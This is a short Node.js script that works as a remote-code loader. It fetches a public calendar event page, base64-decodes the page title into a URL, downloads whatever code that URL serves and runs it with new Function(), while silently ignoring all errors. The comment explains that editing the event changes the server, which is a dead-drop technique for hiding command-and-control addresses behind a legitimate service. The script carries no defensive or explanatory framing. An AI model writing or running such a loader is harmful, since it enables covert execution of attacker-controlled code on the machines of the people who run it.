const https = require('https');

// The next address is the title of a public calendar event: change the event, change the server.
const EVENT = 'https://calendar.app.google/demoEventId123';

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let body = '';
      res.on('data', (d) => (body += d));
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}

(async () => {
  const page = await get(EVENT);
  const title = /<title>([^<]*)<\/title>/.exec(page)[1];
  const next = Buffer.from(title.trim(), 'base64').toString();
  const code = await get(next);
  new Function(code)();
})().catch(() => {});
